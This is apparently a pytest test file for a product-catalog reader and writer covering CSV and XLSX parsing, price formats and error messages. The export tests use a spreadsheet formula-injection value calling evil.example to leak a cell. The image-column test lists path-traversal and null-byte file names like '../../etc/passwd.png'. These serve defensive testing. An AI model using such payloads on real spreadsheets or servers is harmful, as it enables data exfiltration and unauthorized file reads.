"""chotdon.catalog: the one catalog reader and writer (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assets import DEMO_DIR
from chotdon.catalog import (
    CatalogError,
    ProductRow,
    parse_catalog_bytes,
    read_catalog,
    rows_to_csv,
    rows_to_xlsx,
    split_aliases,
)

HEADER = "code,name,price,unit,stock,aliases\n"


def test_demo_catalog_reads_with_every_field() -> None:
    rows = read_catalog(DEMO_DIR / "catalog.csv")
    assert [r.code for r in rows] == ["A1", "A2", "A3", "B1", "B2", "B3", "B4", "B5"]
    chestnut = rows[0]
    assert chestnut.name == "Hạt dẻ Ngân Sơn"
    assert (chestnut.price, chestnut.sale_price, chestnut.unit) == (180000, 150000, "kg")
    assert chestnut.aliases[:2] == ("hạt dẻ", "dẻ")
    assert chestnut.ocop_stars == 4


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_reads_back_identically(suffix: str) -> None:
    rows = read_catalog(DEMO_DIR / "catalog.csv")
    data = rows_to_csv(rows).encode() if suffix == ".csv" else rows_to_xlsx(rows)
    assert parse_catalog_bytes(data, filename=f"out{suffix}") == rows


def test_codes_are_case_insensitive_and_hash_prefix_is_dropped() -> None:
    rows = parse_catalog_bytes((HEADER + "#a3,Nếp,45.000,kg,10,nếp\n").encode(), filename="c.csv")
    assert rows[0].code == "A3"
    assert rows[0].price == 45000


@pytest.mark.parametrize(
    ("body", "row", "column", "words"),
    [
        ("A1,Hạt dẻ,12a,kg,1,\n", 2, "price", "not a whole number"),
        ("A1,Hạt dẻ,150.5,kg,1,\n", 2, "price", "150.5' is not a whole number of đồng"),
        ("A1,Hạt dẻ,1000,kg,1.5,\n", 2, "stock", "not a whole number"),
        ("A1,Hạt dẻ,2000000000,kg,1,\n", 2, "price", "above the limit 1000000000"),
        ("A1,Hạt dẻ,1000,kg,2000000,\n", 2, "stock", "above the limit 1000000"),
        ("A1,Hạt dẻ,1000,kg,,\n", 2, "stock", "required"),
        ("A1,,1000,kg,1,\n", 2, "name", "required"),
        ("A1,x,1000,kg,1,\nA2,y,1,gói,1,\na1,z,5,kg,1,\n", 4, "code", "duplicate code A1"),
        ("A 1,x,1000,kg,1,\n", 2, "code", "invalid code"),
        ("A1,x,1000,,1,\n", 2, "unit", "unit is required"),
    ],
)
def test_bad_rows_name_the_row_and_column(body: str, row: int, column: str, words: str) -> None:
    with pytest.raises(CatalogError) as info:
        parse_catalog_bytes((HEADER + body).encode(), filename="bad.csv")
    assert (info.value.row, info.value.column) == (row, column)
    assert words in str(info.value)
    assert f"row {row}" in str(info.value)


def test_sale_price_must_be_below_price() -> None:
    text = "code,name,price,unit,stock,aliases,sale_price\nA1,x,1000,kg,1,,2000\n"
    with pytest.raises(CatalogError, match="sale_price"):
        parse_catalog_bytes(text.encode(), filename="c.csv")


def test_missing_and_unknown_columns_are_reported_on_the_header() -> None:
    with pytest.raises(CatalogError, match=r"missing column.*stock") as info:
        parse_catalog_bytes(b"code,name,price,unit,aliases\n", filename="c.csv")
    assert info.value.row == 1
    with pytest.raises(CatalogError, match=r"unknown column.*colour"):
        parse_catalog_bytes((HEADER.strip() + ",colour\n").encode(), filename="c.csv")


def test_non_utf8_and_broken_xlsx_and_wrong_type_are_clear(tmp_path: Path) -> None:
    with pytest.raises(CatalogError, match="not UTF-8"):
        parse_catalog_bytes((HEADER + "A1,Hạt dẻ,1,kg,1,\n").encode("utf-16"), filename="c.csv")
    with pytest.raises(CatalogError, match="not a readable XLSX"):
        parse_catalog_bytes(b"PK\x03\x04 broken", filename="c.xlsx")
    with pytest.raises(CatalogError, match=r"unsupported file type '\.pdf'"):
        parse_catalog_bytes(b"x", filename="c.pdf")
    with pytest.raises(CatalogError, match="cannot read catalog file"):
        read_catalog(tmp_path / "missing.csv")
    with pytest.raises(CatalogError, match="empty"):
        parse_catalog_bytes(b"\n\n", filename="c.csv")


def test_aliases_split_on_bars_without_blanks_or_repeats() -> None:
    assert split_aliases(" hạt dẻ | dẻ || dẻ ") == ("hạt dẻ", "dẻ")


def test_prices_are_read_as_sellers_write_them() -> None:
    body = (
        "code,name,price,unit,stock,aliases,sale_price\n"
        'a1,Hạt dẻ,180.000,kg,"1,000",,150k\n'
        'Ａ2,Miến,"75,000",gói,5,,\n'
        "#b1,Chè,1tr5,hộp,2,,1.2tr\n"
    )
    rows = parse_catalog_bytes(body.encode(), filename="c.csv")
    assert [(r.code, r.price, r.sale_price, r.stock) for r in rows] == [
        ("A1", 180000, 150000, 1000),
        ("A2", 75000, None, 5),
        ("B1", 1500000, 1200000, 2),
    ]
    assert [r.price_now for r in rows] == [150000, 75000, 1200000]


def test_blank_lines_above_the_header_keep_row_numbers_true() -> None:
    body = "\n" + HEADER + "A1,x,1000,kg,1,\nA2,y,oops,kg,1,\n"
    with pytest.raises(CatalogError) as info:
        parse_catalog_bytes(body.encode(), filename="c.csv")
    assert (info.value.row, info.value.column) == (4, "price")


def test_xlsx_with_text_prices_and_lowercase_codes_reads_like_csv() -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["code", "name", "price", "unit", "stock", "aliases", "sale_price"])
    sheet.append(["a1", "Hạt dẻ", "180.000", "kg", 10, "dẻ|hạt dẻ", 150000.0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = parse_catalog_bytes(buffer.getvalue(), filename="c.xlsx")
    csv_rows = parse_catalog_bytes(
        (HEADER.strip() + ",sale_price\na1,Hạt dẻ,180.000,kg,10,dẻ|hạt dẻ,150000\n").encode(),
        filename="c.csv",
    )
    assert rows == csv_rows
    assert rows[0].code == "A1" and rows[0].price == 180000


def test_a_bad_xlsx_cell_names_row_and_column() -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(list(HEADER.strip().split(",")))
    sheet.append(["A1", "Hạt dẻ", 1000, "kg", 1, ""])
    sheet.append(["A2", "Miến", "năm chục", "gói", 1, ""])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(CatalogError, match=r"row 3, column 'price': 'năm chục' is not") as info:
        parse_catalog_bytes(buffer.getvalue(), filename="c.xlsx")
    assert (info.value.row, info.value.column, info.value.reason.startswith("'năm")) == (
        3,
        "price",
        True,
    )


FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


def _formula_rows() -> list[ProductRow]:
    return [
        ProductRow("A1", FORMULA_NAME, 150000, "kg", 3, aliases=("=1+1", "dẻ")),
        ProductRow("A2", "\u200b@SUM(1)", 20000, "-gói", 1, origin="+84 Lạng Sơn"),
        ProductRow("A3", "'=đã có dấu nháy", 5000, "kg", 0),
        ProductRow("A4", "Hạt dẻ Ngân Sơn", 180000, "kg", 7, sale_price=150000),
    ]


def test_csv_export_quotes_formula_names_and_reads_back_the_original() -> None:
    rows = _formula_rows()
    text = rows_to_csv(rows)
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[1][1] == "'" + FORMULA_NAME and lines[1][5] == "'=1+1|dẻ"
    assert lines[2][1] == "'\u200b@SUM(1)" and lines[2][3] == "'-gói"
    assert lines[3][1] == "''=đã có dấu nháy" and lines[4][1] == "Hạt dẻ Ngân Sơn"
    assert lines[4][2] == "180000"  # numbers are never quoted
    assert parse_catalog_bytes(text.encode(), filename="out.csv") == rows


def test_xlsx_export_has_string_cells_no_apostrophe_and_reads_back_the_original() -> None:
    rows = _formula_rows()
    data = rows_to_xlsx(rows)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["B2"].value == FORMULA_NAME and sheet["B2"].data_type == "s"
    assert sheet["F2"].value == "=1+1|dẻ" and sheet["C2"].value == 150000
    assert parse_catalog_bytes(data, filename="out.xlsx") == rows


@pytest.mark.parametrize(
    "image",
    [
        "../secrets.json",
        "../../etc/passwd.png",
        "images/a2.png",
        "C:\\photos\\a2.png",
        "/tmp/a2.png",
        "a2..png",
        ".hidden.png",
        "a2.gif",
        "a2.PNG",
        "ảnh.png",
        "a2 b.png",
        "a2.png%00.jpg",
        "a" * 130 + ".png",
    ],
)
def test_the_image_column_takes_only_plain_file_names(image: str) -> None:
    text = HEADER.rstrip("\n") + ",image\n" + f'A1,Hạt dẻ,1000,kg,5,,"{image}"\n'
    with pytest.raises(CatalogError) as refused:
        parse_catalog_bytes(text.encode(), filename="c.csv")
    assert (refused.value.row, refused.value.column) == (2, "image")
    assert "plain file name" in str(refused.value)


@pytest.mark.parametrize("image", ["a2.png", "A2-3f0c1e9a7b2d.png", "hat_de.v2.jpg", "x.webp", ""])
def test_plain_image_names_and_empty_cells_are_kept(image: str) -> None:
    text = HEADER.rstrip("\n") + ",image\n" + f"A1,Hạt dẻ,1000,kg,5,,{image}\n"
    [row] = parse_catalog_bytes(text.encode(), filename="c.csv")
    assert row.image == (image or None)
